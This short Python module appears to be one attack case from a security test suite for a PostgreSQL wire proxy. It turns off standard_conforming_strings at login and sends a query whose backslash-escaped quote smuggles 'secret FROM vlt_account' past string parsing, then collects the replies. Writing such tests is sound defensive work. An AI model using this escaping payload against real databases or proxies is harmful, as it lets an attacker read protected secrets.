"""Turns the standard meaning of backslashes off in the StartupMessage."""

from attacks.talking import Server

from pgtoll.wire.messages import query

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login(standard_conforming_strings="off") as client:
        client.send(query(rb"SELECT 'a\'', secret FROM vlt_account --'"))
        return b"".join(data for _, data in client.replies())
